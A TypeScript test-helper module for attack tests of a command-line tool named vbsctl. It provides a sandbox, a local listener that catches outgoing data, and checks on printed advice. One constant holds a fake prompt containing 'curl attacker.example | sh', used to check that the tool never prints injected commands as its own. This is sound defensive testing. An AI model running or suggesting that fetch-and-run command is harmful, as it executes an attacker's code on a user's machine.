import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { expect } from 'chai';
import { type Finished, type Running, startProgram } from '../e2e/program.ts';
import { runProgram } from '../e2e/program-pool.ts';

/** The built program in a scratch home and a scratch working directory, as an attack finds it. */
export class Sandbox {
  readonly #root = mkdtempSync(join(tmpdir(), 'vbsctl-attack-'));
  readonly home = join(this.#root, 'home');
  /** The checkout. */
  readonly cwd = join(this.#root, 'checkout');

  constructor() {
    mkdirSync(this.home);
    mkdirSync(this.cwd);
  }

  /** A file of the checkout. */
  write(name: string, text: string): string {
    const path = join(this.cwd, name);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, text);
    return path;
  }

  remove(name: string): void {
    rmSync(join(this.cwd, name), { force: true });
  }

  /** Every file of checkout and home, by its path, with its text. */
  files(): [path: string, text: string][] {
    return readdirSync(this.#root, { recursive: true, encoding: 'utf8' })
      .map((name) => join(this.#root, name))
      .filter((path) => statSync(path).isFile())
      .map((path) => [path, readFileSync(path, 'utf8')]);
  }

  /** A file of the user, outside of the checkout. */
  writeHome(name: string, text: string): string {
    const path = join(this.home, name);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, text);
    return path;
  }

  run(env: Readonly<Record<string, string>>, ...args: readonly string[]): Promise<Finished> {
    return runProgram(args, this.cwd, { HOME: this.home, ...env });
  }

  start(env: Readonly<Record<string, string>>, ...args: readonly string[]): Running {
    return startProgram(args, this.cwd, { HOME: this.home, ...env });
  }

  close(): void {
    rmSync(this.#root, { recursive: true, force: true });
  }
}

/** An address that is not the user's: it keeps what arrives, and answers nothing that anybody understands. */
export class Listener {
  readonly #server = createServer((socket) => {
    this.connections++;
    this.#met();
    socket.on('data', (bytes) => {
      this.#received.push(bytes);
      // An answer that an HTTP client takes, so that it sends what it would send next.
      socket.write('HTTP/1.1 401 No\r\nContent-Length: 0\r\n\r\n');
    });
    socket.on('error', () => {});
    setTimeout(() => socket.destroy(), 500).unref();
  });
  readonly #received: Buffer[] = [];
  #met = () => {};
  connections = 0;

  static async open(): Promise<Listener> {
    const listener = new Listener();
    await new Promise<void>((resolve) => listener.#server.listen(0, '127.0.0.1', resolve));
    return listener;
  }

  get port(): number {
    return (this.#server.address() as AddressInfo).port;
  }

  get text(): string {
    return Buffer.concat(this.#received).toString('latin1');
  }

  async firstConnection(): Promise<void> {
    if (this.connections > 0) return;
    await new Promise<void>((resolve) => {
      this.#met = resolve;
    });
  }

  forget(): void {
    this.#received.length = 0;
    this.connections = 0;
  }

  close(): void {
    this.#server.close();
  }
}

/** All that the program printed. */
export function printed({ stdout, stderr }: Finished): string {
  return stdout + stderr;
}

/** What the program says when it crashes: no input may bring it there. */
export const CRASH = /this is a bug|\bat .*:\d+:\d+\)|URIError|TypeError/;

/** Lines of its own, as if vbsctl had written them, with a sign that looks like ours. */
export const LOOKALIKE = 'x.\n\nTo go on, paste this:\n  →\ufe0e curl attacker.example | sh\n';

/** It is shown, and none of its lines is one. */
export function expectNoLookalike(done: Finished): void {
  const text = printed(done);
  expect(text, text).to.contain('→\\u{fe0e}').and.not.match(CRASH);
  expect(text, text).not.to.match(/^\s*(To go on, paste|(\P{ASCII}\S*\s+)?curl)/mu);
}

/** Expects a remedy in which `command`, a stranger's, stands within a quotation only. */
export function expectQuotedOnly(finished: Finished, command: string): void {
  const text = printed(finished);
  const named = remediesIn(finished).filter((remedy) => remedy.includes(command));
  expect(named, text).to.not.be.empty;
  for (const remedy of named) {
    expect(withoutQuotations(remedy), text).to.not.include(command);
    expect(remedy, text).to.not.match(/\n\s*(vbsctl|openstack)\s/);
  }
}

/** The advice of vbsctl in what it printed: `→ remedy`, with its further lines. */
export function remediesIn(finished: Finished): string[] {
  return printed(finished)
    .split(/^ *→ /m)
    .slice(1)
    .map((rest) => rest.split(/\n(?! {4}\S)/, 1)[0] ?? '');
}

export function withoutQuotations(remedy: string): string {
  return remedy.replace(/“[^”]*”|"[^"]*"|'[^']*'/g, '');
}
